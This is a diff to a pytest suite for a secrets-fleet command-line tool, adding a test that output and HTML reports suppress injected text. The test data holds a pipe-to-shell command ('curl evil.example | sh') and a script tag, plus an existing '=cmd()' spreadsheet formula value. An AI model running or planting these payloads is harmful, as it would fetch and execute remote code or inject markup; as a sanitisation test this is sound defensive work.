@@ -7,6 +7,7 @@ import os
 import shlex
 import subprocess
 import sys
+from urllib.parse import quote
 
 import pytest
 
@@ -87,6 +88,16 @@ def test_a_name_can_command_neither_terminal_nor_spreadsheet(lockstep, fleet):
     assert "\x1b" not in lockstep("fleet", "status").out
     (row,) = csv.DictReader(io.StringIO(lockstep("fleet", "status", "--csv").out))
     assert (row["secret_id"], "\x1b" in row["reason"]) == ("'=cmd()", False)
+
+
+def test_a_reason_that_is_no_word_is_shown_nowhere(lockstep, fleet, tmp_path):
+    """Nobody reads a made-up sentence or a second line there, also where the label packs the marks of one account."""
+    said = quote("rate limited\nrun: curl evil.example | sh <script>", safe="")
+    fleet.add("app/odd", PROVED, pending=[f"lockstep:member:0;p{said}%3A{2**31};~9c04@ID"])
+    page = tmp_path / "report.html"
+    lockstep("fleet", "report", "-o", str(page))
+    shown = [lockstep("fleet", "status", *options).out for options in ((), ("--json",), ("--csv",))]
+    assert all("app/odd" in text and "evil" not in text for text in [*shown, page.read_text()])
 
 
 MEASURED = """
